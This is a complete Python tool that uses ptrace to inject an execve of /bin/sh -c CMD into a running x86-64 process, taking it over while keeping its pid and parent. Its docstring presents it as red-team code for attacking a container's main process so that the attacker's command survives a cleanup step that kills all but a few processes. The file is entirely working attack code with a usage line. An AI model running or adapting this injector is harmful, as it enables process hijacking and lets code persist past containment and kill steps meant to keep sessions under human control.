"""Ptrace-inject `execve("/bin/sh", ["sh", "-c", CMD])` into a running process (x86-64), so that
process -- same pid, same parent -- becomes the attacker's loop. Used by red-team attacks on the
container's main process, which an "every process except a few" kill step spares.
Usage: python3 ptrace_inject.py PID CMD"""
import ctypes
import os
import struct
import sys

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
PTRACE_POKEDATA, PTRACE_GETREGS, PTRACE_SETREGS, PTRACE_ATTACH, PTRACE_DETACH = 5, 12, 13, 16, 17
FIELDS = ("r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss "
          "fs_base gs_base ds es fs gs").split()


class Regs(ctypes.Structure):
    _fields_ = [(f, ctypes.c_ulonglong) for f in FIELDS]


def call(req, pid, addr=None, data=None):
    r = libc.ptrace(req, pid, addr, data)
    if r == -1 and ctypes.get_errno():
        raise OSError(ctypes.get_errno(), f"ptrace({req}) failed")
    return r


def poke(pid, addr, blob):
    blob += b"\0" * (-len(blob) % 8)
    for i in range(0, len(blob), 8):
        call(PTRACE_POKEDATA, pid, ctypes.c_void_p(addr + i), ctypes.c_void_p(struct.unpack("<Q", blob[i:i + 8])[0]))


def inject(pid, cmd):
    call(PTRACE_ATTACH, pid)
    os.waitpid(pid, 0)
    regs = Regs()
    call(PTRACE_GETREGS, pid, None, ctypes.byref(regs))
    base = (regs.rsp - 8192) & ~0xF
    strs = [b"/bin/sh\0", b"-c\0", cmd.encode() + b"\0"]
    addrs, off, blob = [], 0, b""
    for s in strs:
        addrs.append(base + 256 + off)
        blob += s
        off += len(s)
    poke(pid, base + 256, blob)
    poke(pid, base, struct.pack("<4Q", addrs[0], addrs[1], addrs[2], 0))
    poke(pid, regs.rip, b"\x0f\x05")  # syscall (text pages are COW-writable through ptrace)
    regs.rax, regs.rdi, regs.rsi, regs.rdx, regs.orig_rax = 59, addrs[0], base, 0, 2**64 - 1
    call(PTRACE_SETREGS, pid, None, ctypes.byref(regs))
    call(PTRACE_DETACH, pid, None, None)


if __name__ == "__main__":
    inject(int(sys.argv[1]), sys.argv[2])
